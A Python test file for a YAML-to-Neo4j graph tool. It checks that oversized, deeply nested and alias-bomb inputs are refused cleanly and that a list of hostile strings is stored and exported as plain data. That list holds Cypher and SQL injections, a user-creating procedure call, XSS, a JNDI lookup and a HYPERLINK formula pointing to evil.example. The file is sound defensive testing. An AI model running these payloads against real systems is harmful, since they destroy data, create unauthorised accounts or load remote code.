"""Hostile input (SECURITY.md): what tests/bad/ cannot hold, and hostile but legal data.

tests/bad/ (checked by test_bad_files.py) has one file per refused input with its
file:line:col message. Here: the real size and depth limits with inputs far past
them, and names that look like Cypher, markup or RDF syntax but are legal data —
they must be stored and exported as plain data, byte for byte.
"""
from __future__ import annotations

import time
from pathlib import Path

import pytest
from helpers.roundtrip import as_neo4j, dump, expected, normalised, parse_oxigraph, parse_rdflib, read_graph, recover

from graph import strictyaml
from graph.facts import collect, read_facts
from graph.model.schema import load_model
from graph.rdf import FORMATS, export_string
from graph.store.load import load_paths
from graph.templates import format_table, load_template, run_template

ROOT = Path(__file__).resolve().parent.parent
SCHEMA = ROOT / "schema"
FIXTURE_SCHEMA = Path(__file__).parent / "fixtures" / "schema"
LOADERS = [strictyaml.PURE_LOADER] + ([strictyaml.C_LOADER] if strictyaml.C_LOADER else [])
BASE = "https://example.org/cf/"

SOURCE = "entities:\n  - id: src-001\n    kind: Source\n    name: {ru: Статья}\n    file: 001.txt\n"


@pytest.fixture(scope="module")
def model():
    return load_model(SCHEMA)


def located(problems, path: Path) -> None:
    for p in problems:
        assert p.file == str(path) and p.line >= 1 and p.col >= 1, p


# -- the real limits, far exceeded ------------------------------------------------------

@pytest.mark.parametrize("loader", LOADERS, ids=lambda loader: loader.__name__)
def test_file_over_the_real_size_limit_is_refused_unread(tmp_path, loader, monkeypatch):
    monkeypatch.setattr(strictyaml, "LOADER", loader)
    path = tmp_path / "huge.yaml"
    body = SOURCE + "    note: |\n" + ("      " + "x" * 120 + "\n") * 9000
    assert len(body.encode()) > strictyaml.MAX_BYTES
    path.write_text(body, encoding="utf-8")
    t0 = time.monotonic()
    _, problems = collect([path], load_model(FIXTURE_SCHEMA))
    assert time.monotonic() - t0 < 30
    assert [(p.line, p.col, p.field) for p in problems] == [(1, 1, "")]
    assert problems[0].reason == f"file is {len(body.encode()):,} bytes, over the 1,048,576-byte limit"


@pytest.mark.parametrize("loader", LOADERS, ids=lambda loader: loader.__name__)
def test_a_text_just_under_the_limit_is_read_whole(tmp_path, loader, monkeypatch):
    monkeypatch.setattr(strictyaml, "LOADER", loader)
    path = tmp_path / "big.yaml"
    note = ("ж" * 100 + "\n") * 5000  # ~1 MB of Cyrillic in one text field
    body = (SOURCE.replace("file: 001.txt", "file: 001.txt\n    note: |") + "".join(
        "      " + line + "\n" for line in note.splitlines()))
    assert strictyaml.MAX_BYTES * 0.9 < len(body.encode()) <= strictyaml.MAX_BYTES
    path.write_text(body, encoding="utf-8")
    facts, problems = collect([path], load_model(FIXTURE_SCHEMA))
    assert problems == []
    assert facts.entities["src-001"].fields["note"] == note.rstrip("\n")


@pytest.mark.parametrize("loader", LOADERS, ids=lambda loader: loader.__name__)
@pytest.mark.parametrize("shape", ["flow-lists", "flow-maps", "block-maps"])
def test_nesting_thousands_deep_is_one_problem_and_no_recursion(tmp_path, loader, shape, monkeypatch):
    monkeypatch.setattr(strictyaml, "LOADER", loader)
    if shape == "flow-lists":
        depth = 400_000
        doc = "a: " + "[" * depth + "]" * depth + "\n"
    elif shape == "flow-maps":
        depth = 200_000
        doc = "a: " + "{a: " * depth + "x" + "}" * depth + "\n"
    else:  # indentation grows by one space per level: depth² / 2 bytes
        depth = 1_200
        doc = "".join(" " * i + "a:\n" for i in range(depth)) + " " * depth + "x\n"
    assert len(doc.encode()) <= strictyaml.MAX_BYTES
    path = tmp_path / "deep.yaml"
    path.write_text(doc)
    t0 = time.monotonic()
    _, problems = collect([path], load_model(FIXTURE_SCHEMA))
    assert time.monotonic() - t0 < 60
    assert len(problems) == 1, problems[:3]
    assert problems[0].reason == "nesting deeper than 32 levels"
    located(problems, path)


@pytest.mark.parametrize("loader", LOADERS, ids=lambda loader: loader.__name__)
def test_an_alias_bomb_at_the_size_limit_is_refused_without_expanding(tmp_path, loader, monkeypatch):
    """Billion laughs inside a fact file, at the size limit: every alias is reported, none expanded.
    (tests/test_strictyaml.py::test_alias_bomb_is_rejected_without_expanding does the classic 9 levels.)"""
    monkeypatch.setattr(strictyaml, "LOADER", loader)
    lines = [SOURCE.rstrip("\n"), '    aliases: &a0 ["lol", "lol"]']
    lines += [f"    x{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 2) + "]" for i in range(1, 20000)]
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(lines) + "\n")
    assert len(path.read_bytes()) <= strictyaml.MAX_BYTES
    t0 = time.monotonic()
    _, problems = collect([path], load_model(FIXTURE_SCHEMA))
    assert time.monotonic() - t0 < 60
    assert sum("aliases (*a" in p.reason for p in problems) == 2 * 19999
    located(problems, path)


def test_cli_validate_on_hostile_files_is_clean(run_cli, tmp_path):
    """Every refusal reaches the user as file:line:col lines and exit 1, never a traceback."""
    (tmp_path / "deep.yaml").write_text("a: " + "[" * 100_000 + "]" * 100_000 + "\n")
    (tmp_path / "huge.yaml").write_bytes(b"a: " + b"x" * (strictyaml.MAX_BYTES + 1) + b"\n")
    (tmp_path / "bad-utf8.yaml").write_bytes(b"entities:\n  - id: \xed\xa0\x80\n")  # an encoded surrogate
    (tmp_path / "bidi.yaml").write_text("entities:\n  - id: src\u202e-1\n", encoding="utf-8")
    result = run_cli("validate", str(tmp_path))
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    for name, where in (("bad-utf8.yaml", ":2:9 - — not UTF-8"), ("bidi.yaml", ":2:12 - — bidirectional"),
                        ("deep.yaml", ":1:35 a[0]"), ("huge.yaml", ":1:1 - — file is")):
        assert f"{tmp_path / name}{where}" in result.output, result.output


# -- hostile but legal: stored and exported as data --------------------------------------

HOSTILE = [
    "Robby' WITH true AS x MATCH (s) DETACH DELETE s //",
    'Robby" }) DETACH DELETE n RETURN 1 AS one //',
    "`Entity`:Admin {id: 'x'}) CALL dbms.security.createUser('x', 'y', false) //",
    "<script>alert('x')</script>",
    "a > b < c & d ]]> <!-- --> &amp; &#0;",
    "[link=https://evil.example]Moskino[/link] [/] [bold red]",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %n {0}",
    '=HYPERLINK("http://evil.example","click")',
    "\\ back\\slash \\u0000 \\n \\\" not escapes",
    "'; DROP TABLE films; --",
    '""" \'\'\' @en ^^xsd:string . } { # <http://x> _:b0 ;',
    "Студия\u200f «Искра» العربية",
    "🎬 e\u0301 Z\u0351a\u0352l\u0353g\u0354o \U0010fffd",
    "NaN", "null", "true", "1:20:30", "0x1F", "~", "- x", "? y", "*a", "&b", "!tag", "%YAML",
]
INT64 = (2**63 - 1, -(2**63))


def hostile_doc() -> dict:
    ents = [{"id": "src-h", "kind": "Source", "name": {"ru": HOSTILE[0], "en": HOSTILE[1]}, "file": HOSTILE[2],
             "author": HOSTILE[3]}]
    rels = []
    for i, text in enumerate(HOSTILE):
        other = HOSTILE[(i + 7) % len(HOSTILE)]
        ents.append({"id": f"org-{i}", "kind": "Organization", "name": {"ru": text, "en": other},
                     "aliases": [other + " (alias)", text + " (alias)"], "type": "studio", "legal_form": text,
                     "note": f"{text}\n  second line: {other}\n", "sources": [{"source": "src-h", "quote": text}]})
    ents.append({"id": "person-h", "kind": "Person", "name": {"en": HOSTILE[5]}, "sources": ["src-h"],
                 "quote": HOSTILE[6]})
    ents.append({"id": "agreement-h", "kind": "Agreement", "name": {"ru": HOSTILE[4]}, "type": "memorandum",
                 "sources": ["src-h"]})
    for n, value in enumerate(INT64):
        ents.append({"id": f"event-{n}", "kind": "Event", "name": {"en": f"Edition {value}"}, "type": "festival",
                     "edition": value, "sources": ["src-h"]})
    for i, text in enumerate(HOSTILE):
        rels.append({"from": f"org-{i}", "type": "PARTY_TO", "to": "agreement-h", "role": text,
                     "sources": [{"source": "src-h", "quote": text}]})
    rels.append({"from": "person-h", "type": "SIGNED", "to": "agreement-h", "capacity": HOSTILE[0],
                 "sources": ["src-h"], "quote": HOSTILE[9]})
    return {"entities": ents, "relations": rels}


@pytest.fixture
def hostile_loaded(driver, tmp_path, model):
    doc = hostile_doc()
    path = tmp_path / "hostile.yaml"
    path.write_text(dump(doc), encoding="ascii")
    facts, warnings = read_facts([path], model)
    assert not [w for w in warnings if w.severity == "error"]
    result = load_paths(driver, [path], SCHEMA)
    assert result.diff.totals()["created"] == len(doc["entities"]) + len(doc["relations"])
    return doc, path


def test_hostile_names_are_stored_exactly_and_nothing_else_runs(driver, hostile_loaded, model):
    doc, path = hostile_loaded
    ents, rels = expected(doc, model)
    got_nodes, got_rels = read_graph(driver)
    want_nodes, want_rels = as_neo4j(ents, rels, model)
    for eid in sorted(set(got_nodes) | set(want_nodes)):
        assert got_nodes.get(eid) == want_nodes.get(eid), eid
    assert got_rels == want_rels
    # nothing a name says ran: only the loaded nodes, labels and users exist
    assert driver.execute_query("MATCH (n) WHERE NOT n:Entity RETURN labels(n) AS l").records[0]["l"] == ["CisfilmMeta"]
    assert driver.execute_query("MATCH (n:Entity) RETURN count(n) AS c").records[0]["c"] == len(doc["entities"])
    labels = {r["label"] for r in driver.execute_query("CALL db.labels() YIELD label RETURN label").records}
    assert labels <= {"Entity", "CisfilmMeta", *model.kinds}
    users = driver.execute_query("SHOW USERS YIELD user RETURN collect(user) AS u", database_="system").records
    assert users[0]["u"] == ["neo4j"]
    again = load_paths(driver, [path], SCHEMA)  # idempotent with hostile data, too
    assert again.diff.changes == 0


@pytest.mark.parametrize("fmt", FORMATS)
def test_hostile_names_export_as_plain_literals_in_every_format(driver, hostile_loaded, model, fmt):
    doc, _ = hostile_loaded
    text = export_string(driver, model, format=fmt, base=BASE)
    want = normalised(*expected(doc, model))
    assert normalised(*recover(parse_rdflib(text, fmt), model, BASE)) == want
    assert normalised(*recover(parse_oxigraph(text, fmt), model, BASE)) == want


def test_hostile_names_in_a_query_table_are_text_not_markup(driver, hostile_loaded, tmp_path):
    """Rich would read "[/]" in a cell as markup (and fail) and "[link=...]" as a terminal
    hyperlink: table cells are plain text (graph/templates.py rich_table)."""
    t = load_template(_write(tmp_path, "names", "// name: names\n// description: All names.\n"
                                               "MATCH (n:Organization) RETURN n.id AS id, n.name_ru AS name ORDER BY id"))
    result = run_template(driver, t)
    table = format_table(result, width=400)
    for text in HOSTILE:
        if "\u200f" not in text and "\u0301" not in text:  # the renderer may reorder or combine those
            assert text in table, text


def test_cli_query_and_stats_print_hostile_names_as_data(run_cli, hostile_loaded, tmp_path):
    _write(tmp_path, "names", "// name: names\n// description: All names.\n"
                              "MATCH (n:Organization) RETURN n.id AS id, n.name_ru AS name ORDER BY id")
    for fmt in ("table", "json", "csv"):
        result = run_cli("query", "names", "--templates", str(tmp_path), "--format", fmt, env={"COLUMNS": "400"})
        assert result.exit_code == 0, result.output
        assert "Traceback" not in result.output
        assert "[link=https://evil.example]Moskino[/link] [/] [bold red]" in result.output
        assert "\x1b]8;" not in result.output  # no terminal hyperlink escape
    result = run_cli("stats")
    assert result.exit_code == 0 and "Traceback" not in result.output


def _write(directory: Path, name: str, text: str) -> Path:
    path = directory / f"{name}.cypher"
    path.write_text(text, encoding="utf-8")
    return path
